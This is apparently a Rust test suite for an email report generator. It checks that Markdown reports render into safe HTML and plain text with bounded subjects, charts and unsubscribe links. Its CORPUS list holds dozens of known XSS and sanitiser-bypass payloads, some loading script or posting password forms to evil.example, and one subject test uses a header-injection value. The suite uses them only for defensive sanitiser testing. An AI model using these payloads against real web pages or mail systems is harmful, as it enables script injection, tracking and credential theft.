//! Messages: whatever a report holds, nothing in its HTML runs, loads or escapes; the text says the
//! same; the same report makes the same bytes.
//!
//! Invariant: the corpus is read as a mail program would, tag by tag.
//! Failure: the first message that is wrong stops the test.

mod report_support;

use report_support::{Random, dataset, fixture};
use rules::civil::Zone;
use rules::report::document::{self, Attachment, Document, DocumentIn, UNSUBSCRIBE};
use rules::report::{Dataset, Kind};
use serde_json::json;

fn data() -> Vec<Dataset> {
    vec![
        dataset(
            "orders",
            &[
                ("day", Kind::Time),
                ("total", Kind::Number),
                ("revenue_eur", Kind::Number),
            ],
            json!([
                ["2026-11-24", 120, 4310.5],
                ["2026-11-25", 95, 3120.25],
                ["2026-11-26", 143, 5170.0]
            ]),
        ),
        dataset(
            "gates",
            &[("gate", Kind::Text), ("scans", Kind::Number)],
            json!([
                ["North", 1204],
                ["South <b>", 87],
                ["=HYPERLINK(\"http://e\")", -3]
            ]),
        ),
    ]
}

fn made(report: &str) -> Document {
    let (zone, data) = (Zone::parse("Europe/Berlin").unwrap(), data());
    document::make(&DocumentIn {
        name: "Daily orders",
        subject: None,
        report,
        data: &data,
        zone: &zone,
        scheduled_for: "2026-11-26T08:00:00Z".parse().unwrap(),
        footer: "You get this because Gala GmbH sends it to you.",
        attach_data: true,
        pictures: true,
    })
}

const REPORT: &str = r#"# Daily orders

On 26 November 2026 there were **143 orders** worth *5,170.00 EUR*, up 50.5 % on the day before.
See the [shop](https://shop.example.org/orders?day=1&x=2) or write to <mailto:ops@example.org>.

![Orders by day](chart:orders?form=bar&y=total)

## Per day

| day | total | revenue |
| --- | --: | --: |
| 2026-11-24 | 120 | 4,310.50 |
| 2026-11-25 | 95 | 3,120.25 |
| 2026-11-26 | 143 | 5,170.00 |

## Notes

1. Late shipments: ~~7~~ **5**
2. Returns are counted on the day they arrive[^1]
   - which may be
   - another one

> Quoted, with `code` in it.

```
select 1
```

[^1]: As agreed in spring.
"#;

#[test]
fn a_whole_message_is_what_it_was() {
    let message = made(REPORT);
    fixture("report/message.html", &message.html);
    fixture("report/message.txt", &message.text);
    assert_eq!(message.subject, "Daily orders");
    let names: Vec<_> = message
        .attachments
        .iter()
        .map(|file| file.name.as_str())
        .collect();
    assert_eq!(names, ["orders.csv", "gates.csv"]);
    assert_eq!(message.charts.len(), 1);
    assert_eq!(message.charts[0].alt, "Orders by day: total from 95 to 143");
    assert!(message.html.contains(
        r#"<img src="cid:chart-1@pulse" width="576" alt="Orders by day: total from 95 to 143""#
    ));
    assert!(
        message
            .text
            .contains("[Chart: Orders by day: total from 95 to 143]")
    );
    assert_eq!(message, made(REPORT), "the same report, the same bytes");
}

#[test]
fn what_outlook_and_the_dark_need_is_there() {
    let html = made(REPORT).html;
    for part in [
        r#"<meta name="color-scheme" content="light dark">"#,
        r#"<meta name="supported-color-schemes" content="light dark">"#,
        "@media (prefers-color-scheme:dark)",
        "[data-ogsc]",
        r#"<!--[if mso]><table role="presentation" width="640""#,
        "max-width:640px",
        r#"align="right""#,
        "mso-hide:all",
    ] {
        assert!(html.contains(part), "{part}");
    }
    assert_eq!(html.matches(UNSUBSCRIBE).count(), 1);
    for loaded in [
        "<link",
        "src=\"http",
        "url(",
        "@import",
        "<script",
        "background=\"",
    ] {
        assert!(!html.contains(loaded), "{loaded}");
    }
    for (open, close) in [
        ("<table", "</table>"),
        ("<tr", "</tr>"),
        ("<td", "</td>"),
        ("<p", "</p>"),
    ] {
        let opened =
            html.matches(&format!("{open}>")).count() + html.matches(&format!("{open} ")).count();
        assert_eq!(opened, html.matches(close).count(), "{open}");
    }
}

/// What has been used against sanitisers, in Markdown and in HTML.
const CORPUS: [&str; 58] = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "text <img src=x onerror=alert(1)> text",
    "<img src=\"https://evil.example/pixel.gif\" width=1 height=1>",
    "![pixel](https://evil.example/pixel.gif)",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2Zy8+)",
    "![x\" onerror=\"alert(1)](https://evil.example/a.png)",
    "![x](cid:chart-1@pulse\" onerror=\"alert(1))",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\u{0}script:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](<java\nscript:alert(1)>)",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example/x)",
    "[x](/relative)",
    "[x](#fragment)",
    "[x]( javascript:alert(1))",
    "[x](https://a.example\" onclick=\"alert(1))",
    "[x](<https://a.example/\"onmouseover=\"alert(1)>)",
    "[x](https://a.example 'title\" onclick=\"alert(1)')",
    "[a]: javascript:alert(1)\n\n[x][a] [a]",
    "<javascript:alert(1)>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=' &#14; javascript:alert(1)'>x</a>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<math><mtext><table><mglyph><style><img src onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<iframe src=https://evil.example></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=x></object><embed src=x>",
    "<form action=https://evil.example><input name=password></form>",
    "<style>body{background:url(https://evil.example)}</style>",
    "<div style=\"background:url(javascript:alert(1))\">x</div>",
    "<p style='position:fixed;top:0' class='card'>x</p>",
    "<base href=https://evil.example>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=https://evil.example>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "<!--><script>alert(1)</script-->",
    "<!--[if mso]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    "```\"><script>alert(1)</script>\nx\n```",
    "|<script>|b|\n|-|-|\n|<img src=x onerror=alert(1)>|[x](javascript:alert(1))|",
    "[^<script>]: x\n\ny[^<script>] [^1]\n\n[^1]: <img src=x onerror=alert(1)>",
    "![chart\"><script>alert(1)</script>](chart:orders?y=total)",
    "[click](https://evil.example/?{unsubscribe_url}) {unsubscribe_url}",
];

#[test]
fn nothing_of_the_corpus_survives() {
    for dirty in CORPUS {
        harmless(dirty, &made(dirty).html);
        harmless(dirty, &document::html::sanitise(dirty));
    }
}

#[test]
fn nothing_of_mixtures_survives() {
    let glue = [
        "", " ", "\n", "\n\n", "> ", "- ", "**", "|", "`", "<", ">", "\"", "'", "&", "![", "](",
        "<!--", "-->", "\\",
    ];
    for seed in 0..1_500 {
        let mut random = Random::new(seed);
        let mut dirty = String::new();
        for _ in 0..=random.below(5) {
            let part = random.pick(&CORPUS);
            let cut =
                usize::try_from(random.below(u64::try_from(part.len()).unwrap() + 1)).unwrap();
            dirty.push_str(if random.below(2) == 0 {
                part
            } else {
                part.get(..cut).unwrap_or(part)
            });
            let joint: &str = random.pick::<&str>(&glue);
            dirty.push_str(joint);
        }
        harmless(&dirty, &made(&dirty).html);
        harmless(&dirty, &document::html::sanitise(&dirty));
    }
}

/// Walks over the tags as a browser does, and refuses everything that a message does not need.
#[track_caller]
fn harmless(dirty: &str, html: &str) {
    let shell = html.starts_with("<!DOCTYPE html>");
    // Between these, everything comes from the report.
    let body = match shell {
        true => {
            let start = html.find("border-radius:8px\">").expect("the card") + 19;
            let end = html
                .rfind("</td></tr>\n<tr><td align=\"left\" style=\"padding:16px 32px\">")
                .expect("the footer");
            &html[start..end]
        }
        false => html,
    };
    assert!(!body.contains(UNSUBSCRIBE) || !shell, "{dirty}\n{body}");
    assert!(!body.contains("<!--"), "{dirty}\n{body}");
    let mut rest = body;
    while let Some(start) = rest.find('<') {
        let tag = &rest[start + 1..];
        let end = tag_end(tag);
        let (inside, behind) = (&tag[..end], &tag[end..]);
        rest = behind;
        let name: String = inside
            .trim_start_matches('/')
            .chars()
            .take_while(char::is_ascii_alphanumeric)
            .collect();
        let known = [
            "a",
            "blockquote",
            "br",
            "code",
            "del",
            "em",
            "h1",
            "h2",
            "h3",
            "hr",
            "img",
            "li",
            "ol",
            "p",
            "pre",
            "strong",
            "sup",
            "table",
            "tbody",
            "td",
            "th",
            "thead",
            "tr",
            "ul",
        ];
        assert!(known.contains(&name.as_str()), "<{inside}> from {dirty}");
        for (attribute, value) in attributes(&inside[inside.len().min(name.len())..]) {
            let value = value.as_str();
            match attribute.as_str() {
                "href" => assert!(
                    ["http://", "https://", "mailto:"]
                        .iter()
                        .any(|scheme| value.to_lowercase().starts_with(scheme)),
                    "{value} from {dirty}"
                ),
                "src" => assert!(
                    value.starts_with("cid:chart-") || !shell && value.starts_with("cid:"),
                    "{value} from {dirty}"
                ),
                "style" => assert!(
                    !value.contains("url") && !value.contains("position"),
                    "{value} from {dirty}"
                ),
                "class" | "alt" | "width" | "align" | "scope" | "start" | "cellpadding"
                | "cellspacing" | "border" | "rel" => {}
                other => panic!("{other}={value} from {dirty}"),
            }
        }
    }
}

/// Where a tag ends: a `>` in quotes ends nothing.
fn tag_end(tag: &str) -> usize {
    let mut quote = None;
    for (at, c) in tag.char_indices() {
        match (quote, c) {
            (None, '>') => return at,
            (None, '"' | '\'') => quote = Some(c),
            (Some(open), c) if open == c => quote = None,
            _ => {}
        }
    }
    tag.len()
}

fn attributes(text: &str) -> Vec<(String, String)> {
    let mut found = Vec::new();
    let mut rest = text.trim();
    while let Some((name, behind)) = rest.split_once('=') {
        let name = name.trim().trim_start_matches('/').trim().to_lowercase();
        let behind = behind.trim_start();
        let quote = behind
            .chars()
            .next()
            .filter(|c| matches!(c, '"' | '\''))
            .expect("quoted values");
        let (value, behind) = behind[1..].split_once(quote).expect("closed values");
        found.push((name, value.to_owned()));
        rest = behind;
    }
    found
}

#[test]
fn the_text_says_what_the_html_says() {
    for (report, text) in [
        ("# A\n\nb *c* **d** ~~e~~ `f`", "A\n=\n\nb c d e f\n"),
        ("## A\n\n### B", "A\n-\n\nB\n"),
        (
            "- a\n- b\n  - c\n\n1. d\n2. e",
            "- a\n- b\n  - c\n\n1. d\n2. e\n",
        ),
        ("9. a\n10. b", "9. a\n10. b\n"),
        ("- a\n\n  second\n- b", "- a\n\n  second\n\n- b\n"),
        ("> a\n> b\n>\n> c", "> a b\n>\n> c\n"),
        (
            "[a](https://e.org) <https://f.org> [m](mailto:x@y.z) [x](javascript:1)",
            "a (https://e.org) https://f.org m (x@y.z) x\n",
        ),
        ("a\\\nb<br>c", "a\nb\nc\n"),
        ("```\n  x\ny\n```", "      x\n    y\n"),
        ("a[^n]\n\n[^n]: b", "a[1]\n\n[1] b\n"),
        (
            "|a|n|\n|-|-:|\n|x|1|\n|long|1,234|",
            "a         n\n----  -----\nx         1\nlong  1,234\n",
        ),
        ("---", "---------------------------------------\n"),
        (
            "![c](chart:nope)",
            "[Chart: c (no chart: there is no dataset nope)]\n",
        ),
        ("![photo](https://e.org/a.png)", "photo\n"),
        ("&lt;b&gt; &amp; \\*", "<b> & *\n"),
    ] {
        let all = made(report).text;
        let body = all.split("\n-- \n").next().unwrap();
        assert_eq!(body, text, "{report}");
    }
    let long = "word ".repeat(60);
    let text = made(&format!("- {long}\n\n{long}")).text;
    assert!(
        text.lines().all(|line| line.chars().count() <= 78),
        "{text}"
    );
    assert!(text.contains("\n  word word"), "lists hang");
    assert!(
        text.ends_with("\n-- \norders.csv\n")
            || text.ends_with(&format!("Unsubscribe: {UNSUBSCRIBE}\n"))
    );
}

#[test]
fn a_subject_is_one_line_of_a_bounded_length() {
    let (zone, data) = (Zone::utc(), Vec::new());
    let subject = |subject: Option<&str>, name: &str| {
        let report = "x";
        let at = "2026-11-26T08:00:00Z".parse().unwrap();
        document::make(&DocumentIn {
            name,
            subject,
            report,
            data: &data,
            zone: &zone,
            scheduled_for: at,
            footer: "",
            attach_data: false,
            pictures: false,
        })
        .subject
    };
    assert_eq!(
        subject(Some("a\r\nBcc: x@y.z\u{202e}\u{0}"), "n"),
        "a Bcc: x@y.z"
    );
    assert_eq!(subject(Some(" \n "), "Daily"), "Daily");
    assert_eq!(subject(None, "\u{1}"), "Report");
    let long = subject(Some(&"ä".repeat(400)), "n");
    assert_eq!(long.chars().count(), document::MAX_SUBJECT);
    assert!(long.ends_with('…'));
}

#[test]
fn too_long_a_report_is_cut_and_says_so() {
    let message = made(&"A line of a long report.\n\n".repeat(20_000));
    assert!(message.html.len() < 2_500_000);
    assert!(
        message.html.contains("The report was cut") && message.text.contains("The report was cut")
    );
}

#[test]
fn charts_beyond_the_bound_are_told_in_words() {
    let report: String = (0..12)
        .map(|at| format!("![c{at}](chart:orders?y=total)\n\n"))
        .collect();
    let message = made(&report);
    assert_eq!(message.charts.len(), document::MAX_CHARTS);
    assert!(message.html.contains("<em>c11: total from 95 to 143</em>"));
    let twice = made("![c](chart:orders)\n\n![c](chart:orders)");
    assert_eq!(twice.charts.len(), 1, "the same chart is attached once");
    assert_eq!(twice.html.matches("cid:chart-1@pulse").count(), 2);
}

#[test]
fn a_browser_shows_attached_pictures() {
    let message = made("![c](chart:orders)");
    let picture = Attachment {
        name: "chart.png".into(),
        content_type: "image/png".into(),
        bytes: vec![1, 2, 3],
        content_id: Some("chart-1@pulse".into()),
    };
    let shown = document::for_browser(&message.html, &[picture]);
    assert!(shown.contains(r#"<img src="data:image/png;base64,AQID""#) && !shown.contains("cid:"));
}

#[test]
fn a_document_without_a_link_says_nothing_of_unsubscribing() {
    use rules::delivery::unsubscribe::{fill_html, fill_text};
    let made = made("# Numbers\n\n42 guests.");
    let (html, text) = (fill_html(&made.html, None), fill_text(&made.text, None));
    for part in [&html, &text] {
        assert!(part.contains("42 guests."), "{part}");
        assert!(!part.to_lowercase().contains("unsubscribe"), "{part}");
        assert!(
            !part.contains("<p class=\"faint\" style=\"\"></p>"),
            "{part}"
        );
    }
    assert_eq!(html.matches("<p").count(), html.matches("</p>").count());
    assert_eq!(html.matches("<a ").count(), html.matches("</a>").count());
    let link = "https://p.example/api/unsubscribe/t";
    assert_eq!(
        fill_html(&made.html, Some(link)),
        made.html.replace(UNSUBSCRIBE, link)
    );
}
